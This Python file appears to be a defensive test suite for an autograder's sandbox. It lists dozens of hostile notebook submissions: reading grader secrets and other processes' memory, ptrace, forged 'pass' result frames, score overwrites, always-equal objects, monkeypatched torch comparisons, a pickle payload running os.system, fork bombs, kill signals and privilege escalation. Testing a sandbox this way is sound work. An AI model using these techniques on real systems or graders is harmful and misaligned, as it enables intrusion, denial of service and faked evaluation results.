"""The catalogue of attacks, each as the source of a notebook whose `double` is graded.

- An attack gives the right answer, 2 * x, only where it got through. Where it read the canary, it
  gives the number that the canary holds.
- An attack that has several ways tries one after the other. Where EACH is set, it tells of every
  way whether it got through.
- Other processes are a decoy that holds the secret. Where RECKLESS is set, they are the grader and
  whatever else runs there, too.
"""

SETTING = '''
import atexit
import ctypes
import gc
import importlib
import importlib.util
import io
import json
import math
import mmap
import multiprocessing
import os
import pickle
import re
import resource
import signal
import socket
import subprocess
import sys
import threading
import time
import numpy as np
import torch

AUTOGRADER, RESULTS, SHARED = {autograder!r}, {results!r}, {shared!r}
MARKER, PORT, SOCKET = {marker!r}, {port!r}, {socket!r}
DECOY, GRADER, RECKLESS, EACH = {decoy!r}, {grader!r}, {reckless!r}, {each!r}
KEY = AUTOGRADER + "/hostile.key"

def targets():
    """Processes to reach into."""
    return [DECOY, *([GRADER, os.getppid(), 1, 2] if RECKLESS else [])]

def read(text):
    """The right answer, if the secret is in `text`."""
    text = text if isinstance(text, str) else bytes(text).decode("latin1")
    found = re.search(r"canary-(\\d{{9}})", text)
    if found:
        print(found[0])
        sys.stderr.write(found[0])
        return torch.tensor(float(found[1]), dtype=torch.float64)
    raise ValueError("no secret in it")

def through(happened, x):
    if happened:
        return 2 * x
    raise ValueError("refused")

def first(attempts):
    """What the first attempt gives that ends without an error."""
    said = []
    for attempt in attempts:
        try:
            return attempt()
        except Exception as error:
            said.append(type(error).__name__)
    raise ValueError("all refused: " + " ".join(sorted(set(said))))

def succeeds(attempt):
    try:
        attempt()
        return True
    except Exception:
        return False

def ways(attempts, harmful=()):
    """`first` of all, or which of the attempts get through.

    Harmful ones are tried only where something is to stop them.
    """
    if EACH:
        return torch.tensor([succeeds(attempt) for attempt in attempts])
    return first([*attempts, *(harmful if RECKLESS else [])])

def content(path):
    with open(path, "rb") as file:
        return file.read(2**20)

def call(number, *arguments):
    """A system call by its number on x86_64."""
    if os.uname().machine != "x86_64":
        raise OSError("another numbering")
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    given = (ctypes.c_long(each) if isinstance(each, int) else each for each in arguments)
    answer = libc.syscall(number, *given)
    if answer < 0:
        raise OSError(ctypes.get_errno(), "refused")
    return answer

def send(data):
    for fd in range(3, 16):
        try:
            os.write(fd, data)
        except OSError:
            pass

def framed(header, data=b""):
    text = header if isinstance(header, bytes) else json.dumps(header).encode()
    blob = len(text).to_bytes(8, "little") + text + data
    return len(blob).to_bytes(8, "little") + blob

def entry(count=15, shape=(3, 5), dtype="F32", offsets=None):
    return {{"dtype": dtype, "shape": list(shape), "data_offsets": offsets or [0, 4 * count]}}
'''

# (entry of the catalogue, what it is, source)
ATTACKS = [
    (
        1,
        "read the autograder's folder",
        """
def double(x):
    def module(name):
        spec = importlib.util.spec_from_file_location("theirs", AUTOGRADER + "/oracle/" + name)
        spec.loader.exec_module(importlib.util.module_from_spec(spec))
        return through(True, x)

    def imported():
        sys.meta_path[:] = [
            finder for finder in sys.meta_path if type(finder).__name__ != "StaffOnly"
        ]
        return through(importlib.import_module("autograder.oracle.editing"), x)

    return ways(
        [
            lambda: read(content(KEY)),
            lambda: read(content(RESULTS)),
            lambda: through(content(AUTOGRADER + "/reference/references.json"), x),
            lambda: module("editing.py"),
            imported,
        ]
    )
""",
    ),
    (
        2,
        "list or stat it",
        """
def double(x):
    return ways(
        [
            lambda: through(os.listdir(AUTOGRADER), x),
            lambda: through(os.stat(KEY), x),
            lambda: through(os.path.exists(KEY), x),
        ]
    )
""",
    ),
    (
        3,
        "a link to it",
        """
def double(x):
    def link(make, to, name, inside=""):
        make(to, name)
        return read(content(name + inside))

    roots = [
        "/proc/self/root",
        "/proc/self/cwd" + 20 * "/..",
        "/proc/1/root",
        "/proc/thread-self/root",
    ]
    return ways(
        [
            lambda: link(os.symlink, AUTOGRADER, "soft", "/hostile.key"),
            lambda: link(os.link, RESULTS, "hard"),
            *[lambda root=root: read(content(root + KEY)) for root in roots],
        ]
    )
""",
    ),
    (
        4,
        "other processes in /proc",
        """
def double(x):
    places = ["environ", "cmdline", "root" + KEY, "cwd/autograder/hostile.key"]

    def descriptor(pid, number):
        return read(
            os.pread(os.open(f"/proc/{pid}/fd/{number}", os.O_RDONLY | os.O_NONBLOCK), 100, 0)
        )

    return ways(
        [
            lambda: first(
                [lambda i=i, pid=pid: descriptor(pid, i) for pid in targets() for i in range(40)]
            ),
            *[lambda pid=pid: through(content(f"/proc/{pid}/maps"), x) for pid in targets()],
            *[
                lambda pid=pid, name=name: read(content(f"/proc/{pid}/{name}"))
                for pid in targets()
                for name in places
            ],
        ]
    )
""",
    ),
    (
        5,
        "memory of other processes",
        """
def double(x):
    def search(pid, fetch):
        places = [
            line.split()[0].split("-")
            for line in content(f"/proc/{pid}/maps").decode().splitlines()
            if " rw" in line
        ]
        return first(
            [
                lambda low=int(low, 16), high=int(high, 16): read(
                    fetch(pid, low, min(high - low, 2**22))
                )
                for low, high in places
            ]
        )

    def from_file(pid, address, count):
        with open(f"/proc/{pid}/mem", "rb", 0) as memory:
            memory.seek(address)
            return memory.read(count)

    def by_call(pid, address, count):
        here = ctypes.create_string_buffer(count)
        local, remote = (
            (ctypes.c_size_t * 2)(ctypes.addressof(here), count),
            (ctypes.c_size_t * 2)(address, count),
        )
        count = call(310, pid, local, 1, remote, 1, 0)
        return here.raw[:count]

    def traced(pid):
        call(101, 16, pid, 0, 0)
        os.waitpid(pid, 0x40000000)
        return through(call(101, 17, pid, 0, 0) == 0, x)

    def descriptors(pid):
        handle = call(434, pid, 0)
        return first(
            [lambda i=i: read(os.pread(call(438, handle, i, 0), 100, 0)) for i in range(40)]
        )

    ours = ctypes.cast(ctypes.CDLL(None).getpid, ctypes.c_void_p).value
    return ways(
        [
            lambda: through(by_call(os.getppid(), ours, 64), x),
            *[
                lambda pid=pid, way=way: way(pid)
                for pid in targets()
                for way in (
                    lambda pid: search(pid, from_file),
                    lambda pid: search(pid, by_call),
                    traced,
                    descriptors,
                )
            ],
        ]
    )
""",
    ),
    (
        6,
        "garbage collector, frames and heap",
        """
def double(x):
    def objects():
        gc.unfreeze()
        parts = gc.get_referents(*gc.get_objects())
        return read(
            " ".join(
                str(part)
                for part in parts
                if type(part) in (str, bytes)
                and len(part) < 100
                and ("canary-" if type(part) is str else b"canary-") in part
            )
        )

    def frames():
        frame, seen = sys._getframe(), ""
        while frame:
            seen, frame = (
                seen + repr(frame.f_locals)[:10_000] + repr(frame.f_globals)[:100_000],
                frame.f_back,
            )
        return read(seen)

    def heap():
        libc = ctypes.CDLL(None, use_errno=True)
        libc.sbrk.restype = ctypes.c_void_p
        mask = {"x86_64": 14, "aarch64": 135}[os.uname().machine]

        def there(
            page,
        ):  # rt_sigprocmask reads what it is given before it finds that 99 is no command
            libc.syscall(mask, 99, ctypes.c_void_p(page), None, ctypes.c_size_t(8))
            return ctypes.get_errno() == 22

        def found(page):
            part = re.search(rb"canary-[0-9]{9}", ctypes.string_at(page, 4096))
            return [read(part[0])] if part else []

        page = (libc.sbrk(0) - 1) & ~4095
        while there(page):
            for number in found(page):
                return number
            page -= 4096
        for arena in {id(each) >> 20 for each in gc.get_objects()}:
            for page in range(arena << 20, arena + 1 << 20, 4096):
                for number in found(page) if there(page) else []:
                    return number
        raise ValueError("no secret in it")

    return ways([frames, heap, objects])
""",
    ),
    (
        7,
        "stale buffers",
        """
def double(x):
    return ways(
        [
            lambda: read(
                b"".join(
                    torch.empty(2**k, dtype=torch.uint8).numpy().tobytes()
                    for k in range(4, 26)
                    for _ in range(2)
                )
            )
        ]
    )
""",
    ),
    (
        8,
        "environment, arguments and descriptors",
        """
def double(x):
    def descriptors():
        seen = b""
        for fd in range(256):
            try:
                seen += os.pread(fd, 10_000, 0)
            except OSError:
                pass
        return read(seen)

    return ways(
        [
            lambda: read(repr(os.environ)),
            lambda: read(repr(sys.argv)),
            descriptors,
            lambda: read(content("/proc/self/environ") + content("/proc/self/cmdline")),
        ]
    )
""",
    ),
    (
        9,
        "TCP, UDP, MPTCP and DNS",
        """
def double(x):
    def connect(*kind):
        with socket.socket(*kind) as own:
            own.settimeout(1)
            own.connect(("127.0.0.1", PORT))
            return read(own.recv(100))

    def udp():
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as own:
            return through(own.sendto(b"x", ("127.0.0.1", 9)), x)

    return ways(
        [
            lambda: connect(socket.AF_INET, socket.SOCK_STREAM),
            udp,
            lambda: through(socket.getaddrinfo("localhost", 80), x),
            lambda: through(socket.socket(socket.AF_NETLINK, socket.SOCK_RAW), x),
            lambda: connect(socket.AF_INET, socket.SOCK_STREAM, 262),
            lambda: through(socket.socket(socket.AF_INET6, socket.SOCK_STREAM), x),
        ]
    )
""",
    ),
    (
        10,
        "Unix and abstract sockets",
        """
def double(x):
    def connect(address):
        with socket.socket(socket.AF_UNIX) as own:
            own.connect(address)
            return read(own.recv(100))

    return ways(
        [
            lambda: connect(SOCKET),
            lambda: connect("\\0" + SOCKET),
            lambda: through(socket.socketpair(), x),
        ]
    )
""",
    ),
    (
        11,
        "shared memory, keys and files for the next one",
        """
def double(x):
    def leave(folder):
        with open(folder + "/keyhole-left-by-a-submission", "w") as file:
            file.write("x")
        return through(os.remove(file.name) is None, x)

    return ways(
        [
            lambda: read(content(SHARED)),
            *[
                lambda folder=folder: leave(folder)
                for folder in ("/dev/shm", "/tmp", "/var/tmp", ".", os.environ["HOME"])
            ],
            lambda: through(call(31, call(29, 0, 4096, 0o1666), 0, 0) == 0, x),
            lambda: through(call(248, b"user", b"a", b"b", 1, -3) > 0, x),
            lambda: through(
                call(240, b"keyhole", 66, 0o600, 0) >= 0 and call(241, b"keyhole") == 0, x
            ),
        ]
    )
""",
    ),
    (
        12,
        "write result files",
        """
def double(x):
    def write(path, mode):
        with open(path, mode) as file:
            file.write('[{"student": "eve", "score": 100}]')
        return through(True, x)

    def rename():
        os.rename(RESULTS, RESULTS + "y")
        return through(os.rename(RESULTS + "y", RESULTS) is None, x)

    return ways(
        [
            *[lambda mode=mode: write(RESULTS, mode) for mode in ("w", "a", "r+")],
            lambda: write(RESULTS + "x", "x"),
            lambda: through(os.truncate(RESULTS, 0) is None, x),
            rename,
            lambda: through(os.chmod(RESULTS, 0o777) is None, x),
            lambda: through(os.unlink(RESULTS) is None, x),
        ]
    )
""",
    ),
    (
        13,
        "a forged frame, then the end",
        """
def double(x):
    send(
        framed(
            {
                "result": entry(),
                "after.x": entry(offsets=[60, 120]),
                "__metadata__": {
                    "status": "done",
                    "verdict": "pass",
                    "points": "100",
                    "score": "100",
                },
            },
            bytes(120),
        )
    )
    os._exit(0)
""",
    ),
    *[
        (
            13,
            f"a forged frame of another form: {what}",
            f"\ndef double(x):\n    send(framed({header}, bytes(124)))\n    os._exit(0)\n",
        )
        for what, header in {
            "nothing": '{"__metadata__": {"status": "done"}, "pad": entry(31, [31])}',
            "without after": '{"result": entry(31, [31]), "__metadata__": {"status": "done"}}',
            "another dtype": (
                '{"result": entry(), "after.x": entry(16, [8], "F64", [60, 124]), "__metadata__":'
                ' {"status": "done"}}'
            ),
            "more": (
                '{"result": entry(), "after.x": entry(offsets=[60, 120]), "more": entry(1, [1],'
                ' offsets=[120, 124]), "__metadata__": {"status": "done"}}'
            ),
        }.items()
    ],
    (
        14,
        "SystemExit, exit handlers and late threads",
        """
def double(x):
    forged = framed(
        {
            "result": entry(),
            "after.x": entry(offsets=[60, 120]),
            "__metadata__": {"status": "done"},
        },
        bytes(120),
    )
    atexit.register(send, forged)
    try:
        threading.Thread(target=lambda: (time.sleep(0.05), send(forged)), daemon=True).start()
    except RuntimeError:
        pass
    raise SystemExit(0)
""",
    ),
    (
        15,
        "an object that equals everything",
        """
class Yes:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __bool__(self): return True
    def __getattr__(self, name): return Yes()
    def __call__(self, *a, **k): return Yes()
    @property
    def __class__(self): return torch.Tensor
def double(x): return Yes()
""",
    ),
    (
        16,
        "tensor and array subclasses",
        """
class Sly(torch.Tensor):
    @classmethod
    def __torch_function__(cls, function, types, args=(), kwargs=None):
        return (
            torch.tensor(True)
            if function.__name__ in ("equal", "allclose", "eq", "isclose", "all")
            else super().__torch_function__(function, types, args, kwargs or {})
        )

    def __eq__(self, other):
        return True

    def detach(self):
        return self

    def cpu(self):
        return self

def double(x):
    return torch.zeros(3, 5).as_subclass(Sly)
""",
    ),
    (
        16,
        "array subclasses",
        """
class Sly(np.ndarray):
    def __array_function__(self, function, types, args, kwargs): return True
    def __array_ufunc__(self, *args, **kwargs): return True
    def copy(self): return self
def double(x): return np.zeros((3, 5), dtype=np.float32).view(Sly)
""",
    ),
    (
        17,
        "monkeypatched torch, builtins and modules",
        """
def double(x):
    import builtins

    yes = lambda *a, **k: True
    torch.equal = torch.allclose = torch.Tensor.equal = torch.Tensor.allclose = (
        torch.testing.assert_close
    ) = yes
    builtins.isinstance = builtins.all = builtins.abs = yes
    for name in list(sys.modules):
        if name.startswith("autograder"):
            sys.modules[name].FAILURES = {}
    sys.modules["autograder.grade"] = sys.modules["json"]
    return torch.zeros(3, 5)
""",
    ),
    (
        19,
        "pickles",
        """
class Payload:
    def __reduce__(self): return os.system, ("touch " + MARKER,)
def double(x):
    data = io.BytesIO()
    torch.save(Payload(), data)
    for blob in (pickle.dumps(Payload()), data.getvalue()):
        send(len(blob).to_bytes(8, "little") + blob)
    return Payload()
""",
    ),
    *[
        (20, f"a reply of another shape: {shape}", f"\ndef double(x): return {code}\n")
        for shape, code in {
            "scalar": "x.new_tensor(0.0)",
            "(1,)": "x[:1, 0] * 2",
            "empty": "torch.empty(0, 5)",
            "no rows of any": "torch.empty(0)",
            "broadcastable": "(2 * x)[None]",
            "one row": "(2 * x)[:1]",
        }.items()
    ],
    (21, "not a number", "\ndef double(x): return x * math.nan\n"),
    (21, "infinite", "\ndef double(x): return x * math.inf\n"),
    *[
        (
            22,
            f"hostile safetensors: {what}",
            f"\ndef double(x):\n    send(framed({header}, {data}))\n    os._exit(0)\n",
        )
        for what, header, data in [
            (
                "a name twice",
                """(b'{"result":{"dtype":"F32","shape":[1],"data_offsets":[0,4]},'
                    b'"result":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}}')""",
                "bytes(4)",
            ),
            ("overlapping", '{"result": entry(1, [1]), "other": entry(1, [1])}', "bytes(4)"),
            ("beyond the end", '{"result": entry(10**6, [10**6])}', "bytes(60)"),
            ("negative", '{"result": entry(1, [-1], offsets=[4, 0])}', "bytes(4)"),
            ("an odd name", '{"../../result": entry()}', "bytes(60)"),
            (
                "an odd status",
                '{"result": entry(), "__metadata__": {"status": "{0.__class__}"}}',
                "bytes(60)",
            ),
        ]
    ],
    (
        23,
        "a huge length",
        "\ndef double(x):\n    send((2**63).to_bytes(8, 'little') + bytes(100))\n    os._exit(0)\n",
    ),
    (
        23,
        "a huge header",
        "\ndef double(x):\n    send(framed(b' ' * 10_000_000))\n    os._exit(0)\n",
    ),
    (
        23,
        "100,000 dimensions",
        (
            "\ndef double(x):\n    send(framed({'result': entry(1, [1] * 100_000)}, bytes(4)))\n   "
            " os._exit(0)\n"
        ),
    ),
    (24, "inputs changed in place", "\ndef double(x): return x.mul_(2)\n"),
    (
        25,
        "public outputs by heart",
        "\ndef double(x): return 2 * torch.arange(15.0).reshape(3, 5)\n",
    ),
    (
        26,
        "an endless loop that ignores signals",
        """
def double(x):
    for number in range(1, 65):
        try: signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError): pass
    while True:
        try:
            while True: pass
        except BaseException: pass
""",
    ),
    (27, "sleep", "\ndef double(x): time.sleep(1000)\n"),
    (
        28,
        "processes without end",
        """
def double(x):
    def bomb():
        while True:
            os.fork()

    def spawn():
        return through(
            multiprocessing.get_context("fork").Process(target=time.sleep).start() is None, x
        )

    def forked(number, *arguments):
        if call(number, *arguments) == 0:
            os._exit(0)
        return through(True, x)

    return ways(
        [
            lambda: through(subprocess.run(["/bin/true"]), x),
            lambda: through(os.posix_spawn("/bin/true", ["true"], {}), x),
            lambda: through(os.system("true") == 0, x),
            spawn,
            lambda: forked(435, (ctypes.c_uint64 * 8)(0, 0, 0, 0, 17), 64),
            lambda: forked(57),
        ],
        harmful=[lambda: forked(58), bomb],
    )
""",
    ),
    (
        29,
        "3,000 threads",
        """
def double(x):
    threading.stack_size(2**15)
    for _ in range(3000):
        threading.Thread(target=time.sleep, args=(100,), daemon=True).start()
    return 2 * x
""",
    ),
    (
        30,
        "memory",
        """
def double(x):
    held = [bytearray(2**26) for _ in range(1000)]
    return 2 * x
""",
    ),
    (
        31,
        "memory files",
        """
def double(x):
    def fill(make):
        for _ in range(8):
            os.write(make(), bytes(2**23))
        return through(True, x)

    def secret():
        descriptor = call(447, 0)
        os.ftruncate(descriptor, 4096)
        mmap.mmap(descriptor, 4096)[:1] = b"x"
        return through(True, x)

    return ways(
        [
            lambda: fill(lambda: os.memfd_create("a")),
            lambda: fill(lambda: call(319, b"a", 0)),
            lambda: through(call(293, (ctypes.c_int * 2)(), 0) == 0, x),
            secret,
        ]
    )
""",
    ),
    (
        32,
        "the disk",
        """
def double(x):
    def many(folder):
        made = []
        for number in range(4):
            with open(f"{folder}/keyhole-{number}", "wb") as file:
                made.append(file.name) or file.write(bytes(2**20))
        return through([os.remove(name) for name in made], x)

    def folders():
        for number in range(1000):
            os.mkdir(f"keyhole-folder-{number}")
        return through(True, x)

    def large(folder):
        with open(folder + "/keyhole-large", "wb") as file:
            file.truncate(1 << 40)
            os.posix_fallocate(file.fileno(), 0, 1 << 40)
        return through(True, x)

    places = [".", "/tmp", "/dev/shm"]
    return ways(
        [*[lambda folder=folder: many(folder) for folder in places], folders],
        harmful=[lambda folder=folder: large(folder) for folder in places],
    )
""",
    ),
    (
        33,
        "a flood of output",
        """
def double(x):
    until = time.time() + 1
    while time.time() < until:
        print("canary" * 10_000)
        sys.stderr.write("y" * 10_000)
        for descriptor in (0, 1, 2): os.write(descriptor, bytes(10_000))
    raise ValueError("z" * 10**7)
""",
    ),
    (34, "a crash", "\ndef double(x): ctypes.string_at(0)\n"),
    (34, "abort", "\ndef double(x): os.abort()\n"),
    (
        35,
        "deeply nested source",
        "\ndef double(x): return " + "(" * 50_000 + "x" + ")" * 50_000 + "\n",
    ),
    (35, "deeply nested signs", "\ndef double(x): return " + "-" * 50_000 + "x\n"),
    (35, "a long chain", "\ndef double(x): return x" + ".t()" * 50_000 + "\n"),
    (
        35,
        "nearly a megabyte of empty lines",
        "\nTEXT = '''" + "\n" * (9 * 10**5) + "'''\ndef double(x): return x\n",
    ),
    (
        38,
        "kill whoever is there",
        """
def double(x):
    info = (ctypes.c_int * 32)(signal.SIGCONT, 0, -1)

    def kinds(pid):
        kill = [
            lambda number=number: through(os.kill(pid, number) is None, x)
            for number in (0, signal.SIGSTOP)
        ]
        kill += [
            lambda: through(call(129, pid, int(signal.SIGCONT), info) == 0, x),
            lambda: through(call(424, call(434, pid, 0), int(signal.SIGCONT), 0, 0) == 0, x),
        ]
        return kill + [
            lambda: through(os.kill(pid, signal.SIGKILL) is None, x),
            lambda: through(os.killpg(pid, signal.SIGKILL) is None, x),
        ]

    return ways(
        [way for pid in targets() for way in kinds(pid)],
        harmful=[
            lambda pid=pid, number=number: through(os.kill(pid, number) is None, x)
            for pid in (0, -1)
            for number in (0, 9)
        ],
    )
""",
    ),
    (
        39,
        "more rights",
        """
def double(x):
    def raised():
        hard = resource.getrlimit(resource.RLIMIT_AS)[1]
        resource.setrlimit(resource.RLIMIT_AS, (2 * hard, 2 * hard))
        return through(True, x)

    def capabilities():
        header, have = (ctypes.c_uint32 * 2)(0x20080522, 0), (ctypes.c_uint32 * 6)()
        call(125, header, have)
        have[0] = have[2] = have[1]
        return through(have[1] and call(126, header, have) == 0, x)

    def mounted():
        succeeds(lambda: call(272, 0x20000))
        call(165, b"none", b"/", 0, 0x44000, 0)
        return through(call(165, b"none", b".", b"tmpfs", 0, 0) == 0, x)

    return ways(
        [
            lambda: through(os.setuid(0) is None, x),
            lambda: through(os.setgid(0) is None, x),
            raised,
            capabilities,
            lambda: through(call(161, b"/") == 0, x),
            lambda: through(call(308, os.open("/proc/self/ns/uts", os.O_RDONLY), 0) == 0, x),
            mounted,
            lambda: through(call(272, 0x10000000) == 0, x),
        ]
    )
""",
    ),
    (
        40,
        "io_uring, bpf and userfaultfd",
        """
def double(x):
    words = lambda *first: (ctypes.c_uint32 * 50)(*first)
    allow = (ctypes.c_uint64 * 1)(0x7FFF0000_00000006)
    program = (ctypes.c_uint64 * 2)(1, ctypes.addressof(allow))
    return ways(
        [
            lambda: through(call(317, 1, 0, program) == 0, x),
            lambda: through(call(444, words(1), 8, 0) >= 0, x),
            lambda: through(call(323, 1) >= 0, x),
            lambda: through(call(425, 4, words()) >= 0, x),
            lambda: through(call(321, 0, words(2, 4, 4, 1), 72) >= 0, x),
            lambda: through(call(298, words(1, 112), 0, -1, -1, 0) >= 0, x),
        ]
    )
""",
    ),
    (
        41,
        "a shared object of one's own",
        """
def double(x):
    def made(folder):
        library = next(
            path
            for path in (
                "/lib/x86_64-linux-gnu/libm.so.6",
                "/lib/aarch64-linux-gnu/libm.so.6",
                "/lib64/libm.so.6",
            )
            if os.path.exists(path)
        )
        with open(library, "rb") as file, open(folder + "/keyhole-own.so", "wb") as copy:
            copy.write(file.read())
        return os.path.abspath(copy.name)

    def own(folder):
        path = made(folder)
        return through(ctypes.CDLL(path) and os.remove(path) is None, x)

    def preload():
        path = made(".")
        return through(
            path
            in subprocess.run(
                ["/bin/cat", "/proc/self/maps"],
                env={"LD_PRELOAD": path},
                capture_output=True,
                text=True,
            ).stdout,
            x,
        )

    return ways(
        [lambda: own("."), lambda: own("/tmp"), lambda: own("/dev/shm"), preload],
        harmful=[lambda: os.execv("/bin/true", ["true"])],
    )
""",
    ),
    (
        42,
        "hidden inputs shown",
        """
def double(x):
    print(x.tolist())
    raise ValueError(f"canary {x.tolist()} '{x.sum().item()}' {x.min().item()!r}")
""",
    ),
    (
        44,
        "markup and codes in what is shown",
        """
def double(x):
    raise ValueError(
        "<script>alert(1)</script> **b** [a](javascript:b) $\\\\href{{javascript:c}}{{d}}$ "
        "\\x1b[31m\\x1b]0;t\\x07 \\u202e \\u2066 \\r\\n | a | b |"
    )
""",
    ),
    (45, "names that look alike", "\ndef d\u043euble(x): return 2 * x\n"),
]

# What puts the secret, {canary}, in the way of entries that would else have nothing to find.
PLANTED = {
    6: (
        """
KEPT = ["{canary}"]
gc.freeze()
"""
    ),
    7: (
        """
for power in range(4, 26):
    used = torch.zeros(2**power, dtype=torch.uint8)
    used[-16:] = torch.frombuffer(bytearray(b"{canary}"), dtype=torch.uint8)
    del used
"""
    ),
    8: (
        """
os.environ["SECRET"] = "{canary}"
sys.argv.append("{canary}")
FILE = open("planted", "w+")
FILE.write("{canary}")
FILE.flush()
"""
    ),
}
